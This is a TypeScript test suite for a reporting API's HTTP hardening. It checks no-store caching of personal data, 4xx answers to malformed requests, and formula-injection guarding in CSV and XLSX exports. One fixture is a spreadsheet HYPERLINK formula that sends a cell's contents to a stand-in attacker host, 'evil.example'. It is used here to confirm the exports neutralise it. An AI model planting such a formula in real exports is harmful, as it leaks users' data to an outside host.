/**
 * Hardening of the HTTP edge (issue 12): personal data is never cacheable, and malformed requests are the
 * client's fault (4xx), never a 500 or a default report. Runs on SQLite and, when it answers, PostgreSQL.
 */
import { FormulaLike } from "@vcr/core"
import { writeFileSync } from "node:fs"
import { request as httpRequest } from "node:http"
import { join } from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { freshPostgres, postgresAvailable } from "../../../test-support/postgres.ts"
import { sheetCells, worksheetXml, zipEntries } from "../../../packages/xlsx/test/fixtures.ts"
import { day, start, type Running } from "./support.ts"

/** A raw request (fetch would normalise or refuse what an attacker sends). */
const raw = (url: string, o: { method?: string; path: string; headers?: Record<string, string>; body?: string | Buffer }) =>
  new Promise<{ status: number; headers: Record<string, string | Array<string> | undefined>; body: string }>((resolve, reject) => {
    const u = new URL(url)
    const req = httpRequest({ host: u.hostname, port: u.port, method: o.method ?? "GET", path: o.path, headers: o.headers ?? {} }, (res) => {
      const chunks: Array<Buffer> = []
      res.on("data", (c: Buffer) => chunks.push(c)).on("end", () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString("utf8") }))
    })
    req.on("error", reject)
    req.end(o.body)
  })

/** The cells of an RFC 4180 CSV text. */
const csvCells = (text: string): Array<Array<string>> => {
  const rows: Array<Array<string>> = [[]]
  let cell = ""
  let quoted = false
  const endCell = () => {
    rows.at(-1)!.push(cell)
    cell = ""
  }
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === ",") endCell()
    else if (c === "\n" || c === "\r") {
      if (c === "\r" && text[i + 1] === "\n") i++
      endCell()
      rows.push([])
    } else cell += c
  }
  if (cell !== "" || rows.at(-1)!.length > 0) rows.at(-1)!.push(cell)
  return rows.filter((r) => r.length > 0 && !(r.length === 1 && r[0] === ""))
}

const download = "/api/v1/organisations/org-1/reports/consultations/downloads"

const suite = (name: string, database: () => Promise<{ url: string; drop: () => Promise<void> } | undefined>) =>
  describe(name, () => {
    let app: Running | undefined
    let db: { url: string; drop: () => Promise<void> } | undefined
    let skipped = false
    beforeAll(async () => {
      db = await database()
      if (name !== "SQLite" && db === undefined) {
        skipped = true
        return
      }
      app = await start(db === undefined ? {} : { databaseUrl: db.url })
    }, 60_000)
    afterAll(async () => {
      await app?.close()
      await db?.drop()
    })
    const running = (): Running => {
      if (app === undefined) throw new Error("no app")
      return app
    }
    const auth = () => ({ Authorization: `Bearer ${running().tokens["u-oadmin"]}` })

    describe("Cache-Control", () => {
      it("marks downloads, history, history files, /me and errors no-store", async ({ skip }) => {
        if (skipped) return skip()
        const a = running()
        const d = await a.as("u-oadmin", download, { method: "POST", body: JSON.stringify({ ...day, format: "csv" }) })
        expect(d.status).toBe(200)
        expect(d.headers.get("cache-control")).toBe("no-store")
        const id = d.headers.get("x-history-entry")
        await d.arrayBuffer()
        for (const path of ["/api/v1/me", "/api/v1/history", `/api/v1/history/${id}`, `/api/v1/history/${id}/file`, "/api/v1/history/nope"]) {
          const r = await a.as("u-oadmin", path)
          await r.arrayBuffer()
          expect(r.headers.get("cache-control"), path).toBe("no-store")
        }
        const signIn = await fetch(a.url + "/auth/link", { method: "POST", headers: { "Content-Type": "application/json" }, body: '{"token":"x"}' })
        expect(signIn.headers.get("cache-control")).toBe("no-store")
      })
    })

    describe("formula-like text (R74) through the API", () => {
      const label = '=HYPERLINK("http://evil.example/?d="&C2,"x")'
      const clinic = "\uFF1D1+11"
      const prepare = async (a: Running) => {
        const put = await a.as("u-oadmin", "/api/v1/organisations/org-1/reporting-configuration", {
          method: "PUT", body: JSON.stringify({ tags: [{ key: "campaign", label }], bandwidth_columns: true, default_timezone: null, default_minimum_duration_minutes: null })
        })
        expect(put.status).toBe(200)
        await a.store.importLines([
          JSON.stringify({ type: "clinic", id: "cl-evil", organisation_id: "org-1", name: clinic, status: "open", created_at: "2024-01-11T00:00:00Z", tags: { campaign: "@SUM(A1)" } })
        ])
      }
      const fetchReport = async (a: Running, format: string) => {
        const r = await a.as("u-oadmin", "/api/v1/organisations/org-1/reports/clinics/downloads", { method: "POST", body: JSON.stringify({ ...day, format }) })
        expect(r.status, format).toBe(200)
        return Buffer.from(await r.arrayBuffer())
      }

      it("guards the tag label header and the clinic name in CSV, keeps them exact with quotePrefix in XLSX, and exact in JSON", async ({ skip }) => {
        if (skipped) return skip()
        const a = running()
        await prepare(a)

        // CSV: every cell a spreadsheet would evaluate carries the guard; the guarded texts are the originals.
        const cells = csvCells(( await fetchReport(a, "csv")).toString("utf8"))
        expect(cells.flat().filter((c) => FormulaLike.isFormulaLike(c))).toEqual([])
        expect(cells[0]).toContain(`'${label}`)
        expect(cells.flat()).toContain(`'${clinic}`)
        expect(cells.flat()).toContain("'@SUM(A1)")

        // XLSX: no formula anywhere; the texts are exact and their style has quotePrefix.
        const path = join(a.dir, "evil.xlsx")
        writeFileSync(path, await fetchReport(a, "xlsx"))
        const entries = await zipEntries(path)
        const styles = entries.get("xl/styles.xml")!
        const quoted = [...styles.slice(styles.indexOf("<cellXfs"), styles.indexOf("</cellXfs>")).matchAll(/<xf [^>]*>/g)].map((m) => m[0].includes('quotePrefix="1"'))
        const texts = worksheetXml(entries).flatMap((xml) => {
          expect(xml).not.toMatch(/<f[\s>/]/)
          return sheetCells(xml).filter((cell) => cell.t === "str" || cell.t === "inlineStr").map((cell) => ({
            text: cell.text.replaceAll("&quot;", '"').replaceAll("&amp;", "&"), quotePrefix: quoted[Number(cell.s ?? 0)] ?? false
          }))
        })
        for (const text of [label, clinic, "@SUM(A1)"]) expect(texts, text).toContainEqual({ text, quotePrefix: true })

        // JSON is data for machines (SPEC §8; R74 covers outputs a spreadsheet opens): exact, unguarded.
        const json = JSON.parse((await fetchReport(a, "json")).toString("utf8")) as { columns: Array<{ header: string }>; rows: Array<Record<string, unknown>> }
        expect(json.columns.map((c) => c.header)).toContain(label)
        expect(json.rows.map((r) => r.clinic_name)).toContain(clinic)
      })
    })

    describe("history, configuration and tags", () => {
      it("audits a denied read of another user's history entry", async ({ skip }) => {
        if (skipped) return skip()
        const a = running()
        const d = await a.as("u-oadmin", download, { method: "POST", body: JSON.stringify({ ...day, format: "csv" }) })
        const id = d.headers.get("x-history-entry")!
        await d.arrayBuffer()
        for (const path of [`/api/v1/history/${id}`, `/api/v1/history/${id}/file`]) expect((await a.as("u-other", path)).status).toBe(404)
        const denied = (await a.store.access.auditLog()).filter((r) => r.user_id === "u-other" && r.action === "history_read")
        expect(denied).toHaveLength(2)
        expect(denied.every((r) => r.outcome === "denied" && JSON.parse(r.detail ?? "{}").entry === id)).toBe(true)
      })

      it("rejects a NUL in a tag label like import does, and a PUT missing fields, changing nothing", async ({ skip }) => {
        if (skipped) return skip()
        const a = running()
        const path = "/api/v1/organisations/org-1/reporting-configuration"
        const before = await (await a.as("u-oadmin", path)).json()
        const whole = { bandwidth_columns: false, default_timezone: "Australia/Sydney", default_minimum_duration_minutes: 5 }
        const nul = await a.as("u-oadmin", path, { method: "PUT", body: JSON.stringify({ ...whole, tags: [{ key: "cc", label: "Cost\u0000centre" }] }) })
        expect(nul.status).toBe(400)
        expect(((await nul.json()) as { error: { field: string } }).error.field).toMatch(/^tags/)
        const partial = await a.as("u-oadmin", path, { method: "PUT", body: JSON.stringify({ tags: [{ key: "cc", label: "Cost centre" }] }) })
        expect(partial.status).toBe(400)
        const error = ((await partial.json()) as { error: { code: string; field: string; message: string } }).error
        expect(error).toMatchObject({ code: "missing_field", field: "bandwidth_columns" })
        expect(error.message).toContain("default_timezone, default_minimum_duration_minutes")
        expect(await (await a.as("u-oadmin", path)).json()).toEqual(before)
      })
    })

    describe("client errors", () => {
      it("answers 415 to a body in an unsupported Content-Encoding", async ({ skip }) => {
        if (skipped) return skip()
        const r = await raw(running().url, {
          method: "POST", path: download, headers: { ...auth(), "Content-Type": "application/json", "Content-Encoding": "br" }, body: Buffer.from([1, 2, 3, 4])
        })
        expect(r.status).toBe(415)
        expect(JSON.parse(r.body).error.code).toBe("unsupported_media_type")
        const gzip = await raw(running().url, {
          method: "POST", path: download, headers: { ...auth(), "Content-Type": "application/json", "Content-Encoding": "gzip" }, body: Buffer.from([1, 2, 3, 4])
        })
        expect(gzip.status).toBe(400)
      })

      it("answers 415 to an unknown charset", async ({ skip }) => {
        if (skipped) return skip()
        const r = await raw(running().url, {
          method: "POST", path: download, headers: { ...auth(), "Content-Type": "application/json; charset=foo" }, body: JSON.stringify(day)
        })
        expect(r.status).toBe(415)
      })

      it("answers 415 to text/plain and form bodies on a JSON route, and generates nothing", async ({ skip }) => {
        if (skipped) return skip()
        const a = running()
        const before = ((await (await a.as("u-oadmin", "/api/v1/history")).json()) as { entries: Array<unknown> }).entries.length
        for (const [type, body] of [["text/plain", JSON.stringify(day)], ["application/x-www-form-urlencoded", "from=2026-03-02&to=2026-03-02"]]) {
          const r = await raw(a.url, { method: "POST", path: download, headers: { ...auth(), "Content-Type": type! }, body })
          expect(r.status, type).toBe(415)
          expect(JSON.parse(r.body).error.code).toBe("unsupported_media_type")
        }
        const noType = await raw(a.url, { method: "POST", path: download, headers: auth(), body: JSON.stringify(day) })
        expect(noType.status).toBe(415)
        const after = ((await (await a.as("u-oadmin", "/api/v1/history")).json()) as { entries: Array<unknown> }).entries.length
        expect(after).toBe(before)
      })

      it("answers 400 to a malformed percent-encoding in a path or a cookie", async ({ skip }) => {
        if (skipped) return skip()
        const a = running()
        const path = await raw(a.url, { path: "/api/v1/history/%E0%A4%A", headers: auth() })
        expect(path.status).toBe(400)
        const cookie = await raw(a.url, { path: "/api/v1/me", headers: { Cookie: "vcr_session=%E0%A4%A" } })
        expect([400, 401]).toContain(cookie.status)
        expect(cookie.status).not.toBe(500)
      })

      it("answers 400 or 404 to a NUL in an id", async ({ skip }) => {
        if (skipped) return skip()
        const a = running()
        for (const path of ["/api/v1/history/ab%00cd", "/api/v1/history/ab%00cd/file", "/api/v1/organisations/org%00-1/reporting-configuration"]) {
          const r = await raw(a.url, { path, headers: auth() })
          expect([400, 404], path).toContain(r.status)
        }
        const r = await raw(a.url, { method: "POST", path: download, headers: { ...auth(), "Content-Type": "application/json" }, body: JSON.stringify({ ...day, clinic_id: "cl\u0000a" }) })
        expect([400, 404]).toContain(r.status)
      })
    })
  })

suite("SQLite", async () => undefined)
suite("PostgreSQL", async () => ((await postgresAvailable()) ? freshPostgres() : undefined))
